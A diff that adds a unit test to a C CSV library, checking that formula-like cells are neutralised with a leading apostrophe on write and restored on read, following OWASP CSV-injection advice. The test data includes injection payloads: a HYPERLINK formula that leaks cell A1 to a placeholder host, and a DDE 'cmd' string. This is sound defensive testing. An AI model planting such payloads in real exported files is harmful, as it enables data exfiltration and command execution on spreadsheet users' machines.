@@ -248,6 +248,61 @@ static void test_writer_quotes_only_when_needed(void **state)
 	free(text);
 }
 
+/* OWASP CSV injection: a cell a spreadsheet would run is written with a ' in front, quoted; numbers stay as
+ * they are; the reader takes exactly that ' off, so every value comes back as it was, including values that
+ * began with quotes of their own. */
+static void test_formulas_neutralised_and_restored(void **state)
+{
+	(void)state;
+	static const char *const cells[] = {
+		"=HYPERLINK(\"http://x.example/?d=\"&A1,\"Help\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+		"\tx", "\r=x", "-3", "-1.5", "+7", "2e3", ".5", "-", "'=x", "''+x", "'abc", "'-3", "a=b", "",
+	};
+	static const char *const written[] = {
+		"\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1,\"\"Help\"\")\"", "\"'+1+cmd|' /C calc'!A0\"",
+		"\"'-2+3\"", "\"'@SUM(A1:A9)\"", "\"'\tx\"", "\"'\r=x\"", "-3", "-1.5", "+7", "2e3", ".5", "\"'-\"",
+		"\"''=x\"", "\"'''+x\"", "'abc", "'-3", "a=b", "",
+	};
+	enum { N = CB_COUNTOF(cells) };
+	for (int i = 0; i < N; i++) {
+		char *text = NULL;
+		size_t len = 0;
+		FILE *w = open_memstream(&text, &len);
+		cb_csv_put(w, cells[i], ',');
+		fclose(w);
+		if (strcmp(text, written[i]) != 0)
+			fail_msg("cell %d: wrote [%s], expected [%s]", i, text, written[i]);
+		free(text);
+	}
+	/* rows of them, back through the reader (the parse helper keeps 8 cells a row) */
+	for (int from = 0; from < N; from += 8) {
+		char *text = NULL;
+		size_t len = 0;
+		int n = N - from < 8 ? N - from : 8;
+		FILE *w = open_memstream(&text, &len);
+		cb_csv_put_row(w, cells + from, n, ',');
+		fclose(w);
+		struct parsed p;
+		parse(text, len, ',', &p);
+		assert_int_equal(p.nrows, 1);
+		assert_int_equal(p.nfields[0], n);
+		for (int k = 0; k < n; k++)
+			assert_string_equal(p.cells[0][k], cells[from + k]);
+		free(text);
+	}
+	/* what a person typed in a spreadsheet: a ' before plain text or a number stays */
+	struct parsed p;
+	const char typed[] = "'abc,'-3,'=x,\"'@x\"\n";
+	parse(typed, sizeof typed - 1, ',', &p);
+	assert_string_equal(p.cells[0][0], "'abc");
+	assert_string_equal(p.cells[0][1], "'-3");
+	assert_string_equal(p.cells[0][2], "=x");
+	assert_string_equal(p.cells[0][3], "@x");
+	assert_true(cb_csv_formula("=1"));
+	assert_false(cb_csv_formula("-1e-3"));
+	assert_false(cb_csv_formula(""));
+}
+
 /* Unquoted fields of every length from 0 to 19, so that delimiters and line ends fall at every offset of the
  * reader's eight-byte steps, with ';' as the delimiter (',' is then data), CRLF and LF. */
 static void test_field_lengths(void **state)
@@ -298,6 +353,7 @@ int main(void)
 		cmocka_unit_test(test_many_rows_across_blocks),
 		cmocka_unit_test(test_field_lengths),
 		cmocka_unit_test(test_writer_quotes_only_when_needed),
+		cmocka_unit_test(test_formulas_neutralised_and_restored),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
